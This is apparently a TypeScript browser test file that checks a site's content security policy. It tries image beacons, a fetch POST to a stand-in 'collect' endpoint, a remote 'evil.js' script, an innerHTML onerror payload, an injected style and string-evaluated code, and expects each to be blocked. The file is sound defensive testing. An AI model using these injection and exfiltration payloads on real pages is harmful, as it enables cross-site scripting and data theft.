import { createServer } from 'node:http';
import { setTimeout as delay } from 'node:timers/promises';

import type { AppPage } from '../app/app-page.ts';
import { arrive } from '../app/person.ts';
import { expect, test as base } from './fixtures.ts';

/**
 * Ways to bring something in or to send something out. Each must be stopped, and seen by the watch on every journey; on a
 * page without a policy each must come through.
 * Each runs a moment later, as a task of the page: what a debugger runs at once is exempt from the policy.
 */
const ATTEMPTS: Readonly<Record<string, (elsewhere: string) => void>> = {
  'F20 an image from elsewhere': (elsewhere) => {
    setTimeout(() => Object.assign(new Image(), { src: `${elsewhere}/tracker.png` }));
  },
  'F20 a message to elsewhere': (elsewhere) => {
    setTimeout(
      () =>
        void fetch(`${elsewhere}/collect`, { method: 'POST', mode: 'no-cors', body: 'books' }).catch(() => undefined),
    );
  },
  'F20 a script from elsewhere': (elsewhere) => {
    setTimeout(() => {
      const script = document.createElement('script');
      document.body.append(script);
      Reflect.set(script, 'src', `${elsewhere}/evil.js`);
    });
  },
  'F19 markup from a string': () => {
    setTimeout(() => Reflect.set(document.body, 'innerHTML', '<img src="x" onerror="window.pwned = true">'));
  },
  'F19 a style in the page': () => {
    setTimeout(() => {
      const textContent = 'body { color: rgb(1, 2, 3) }';
      document.head.append(Object.assign(document.createElement('style'), { textContent }));
    });
  },
  'F21 code from a string': () => {
    setTimeout(() => Reflect.apply(setTimeout, window, ['window.pwned = true', 0]));
  },
};

interface Elsewhere {
  readonly origin: string;
  /** What has come to it. */
  readonly requests: readonly string[];
}

const test = base.extend<{ elsewhere: Elsewhere }>({
  // oxlint-disable-next-line no-empty-pattern
  elsewhere: async ({}, use) => {
    const requests: string[] = [];
    const server = createServer((request, response) => {
      requests.push(request.url ?? '');
      response.writeHead(204).end();
    });
    await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    await use({ origin: `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`, requests });
    server.closeAllConnections();
    server.close();
  },
});

for (const [name, attempt] of Object.entries(ATTEMPTS)) {
  test(`${name} is stopped, and the watch sees it; without a policy it comes through`, async ({
    browserEngine,
    site,
    plain,
    elsewhere,
  }) => {
    const visit = await browserEngine.open(site.origin);
    await arrive(visit.page);
    await visit.page.evaluate(attempt, elsewhere.origin);
    await delay(300);
    expect(await cameThrough(visit.page, elsewhere)).toBe(false);
    await expect(visit.close()).rejects.toThrow(/policy|trusted|request to/i);

    const control = await browserEngine.open(plain.origin);
    await control.page.goto('/');
    await control.page.evaluate(attempt, elsewhere.origin);
    await expect.poll(() => cameThrough(control.page, elsewhere), 'the negative control').toBe(true);
    // The watch complains here too, where something was sent.
    await control.close().catch(() => undefined);
  });
}

async function cameThrough(page: AppPage, elsewhere: Elsewhere): Promise<boolean> {
  const isHere = await page.evaluate(
    () => Reflect.has(window, 'pwned') || getComputedStyle(document.body).color === 'rgb(1, 2, 3)',
  );
  return isHere || elsewhere.requests.length > 0;
}
